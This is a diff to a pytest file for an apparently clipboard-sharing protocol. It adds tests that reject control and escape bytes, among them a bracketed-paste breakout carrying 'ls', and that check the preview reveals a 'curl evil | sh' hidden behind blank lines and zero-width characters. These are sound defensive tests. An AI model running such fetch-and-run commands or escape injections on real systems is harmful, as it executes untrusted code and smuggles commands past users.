@@ -4,7 +4,7 @@ import hashlib
 
 import pytest
 
-from protocol.clipboard import MAX_TEXT_BYTES, PART_BYTES, Gathering, parts_of, text_of
+from protocol.clipboard import MAX_TEXT_BYTES, PART_BYTES, Gathering, parts_of, start_of, text_of
 from protocol.errors import Malformed
 
 
@@ -44,6 +44,13 @@ def test_what_does_not_fit_is_broken(parts: list[tuple[int, bytes]], code: str) 
 
 def test_text_is_read_in_any_script_and_nothing_else_is_text() -> None:
     assert text_of("Grüße, 你好, שלום 👋\n".encode()) == "Grüße, 你好, שלום 👋\n"
-    for none in (b"\xff\xfe", b"\xed\xa0\x80", b"a\0b"):
+    for none in (b"\xff\xfe", b"\xed\xa0\x80", b"a\0b", b"ls\x1b[201~\r", b"a\x7f", "a\x85".encode()):
         with pytest.raises(Malformed):
             text_of(none)
+
+
+def test_what_is_shown_of_a_text_is_what_can_be_seen_of_it() -> None:
+    assert start_of("\n" * 5_000 + "\u200b" * 5_000 + "curl evil | sh\n", 100) == "curl evil | sh"
+    assert start_of("one\n\n\n\ntwo  \t three\n", 100) == "one\n\ntwo three"
+    assert start_of("a\u202eb\u200b", 100) == "ab"
+    assert [start_of(text, 3) for text in ("abc", "abcd", "  \u200b\n", "ab\ncd")] == ["abc", "abc", "", "ab\n"]
